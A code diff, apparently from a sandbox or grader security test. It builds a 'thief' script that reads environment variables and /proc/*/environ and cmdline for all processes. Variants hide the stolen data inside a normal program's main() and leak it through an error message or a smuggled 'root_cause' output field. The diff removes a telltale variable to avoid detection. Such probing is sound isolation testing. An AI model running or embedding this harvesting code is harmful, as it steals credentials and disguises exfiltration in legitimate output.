@@ -62,6 +62,7 @@ def thief(places: Sequence[Path], port: int, marker: str) -> str:
     name of every file it tries to leave.
     """
     return f"""
+'''Takes what it can get.'''
 import glob
 import os
 import signal
@@ -69,10 +70,12 @@ import socket
 import subprocess
 import urllib.request
 
-loot = [repr(dict(os.environ))]
+# without what differs from run to run, as labels that do would give it away
+loot = [repr({{k: v for k, v in os.environ.items() if k != "PYTHONHASHSEED"}})]
 
 
 def attempt(action, *arguments):
+    '''Try and take the answer.'''
     try:
         loot.append(repr(action(*arguments)))
     except (OSError, ValueError, subprocess.SubprocessError) as refusal:
@@ -80,16 +83,19 @@ def attempt(action, *arguments):
 
 
 def read(path):
+    '''What a file says.'''
     with open(path, "rb") as file:
         return file.read(100_000)
 
 
 def write(path):
+    '''Leave a file.'''
     with open(path, "w") as file:
         return file.write(repr(loot))
 
 
 def steal():
+    '''All of it.'''
     for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ"):
         for path in glob.glob(pattern):
             attempt(read, path)
@@ -113,14 +119,14 @@ def steal():
 """
 
 
-FAILING_END = """
-if __name__ == "__main__":
-    steal()
-    raise RuntimeError(repr(loot)[-9000:])
-"""
+FAILING_END = GOOD_CODE.replace(
+    "def main():", "def main():\n    steal()\n    raise RuntimeError(repr(loot)[-9000:])", 1
+)
 SMUGGLING_END = GOOD_CODE.replace(
     '"root_cause": ["oil_temperature_degc"] * 6', '"root_cause": [LOOT] * 6'
 )
 SMUGGLING_END = SMUGGLING_END.replace(
-    "def main():", "def main():\n    steal()\n    LOOT = repr(loot)[:200]", 1
+    "def main():",
+    "def main():\n    '''Steal, and write a year.'''\n    steal()\n    LOOT = repr(loot)[:200]",
+    1,
 )
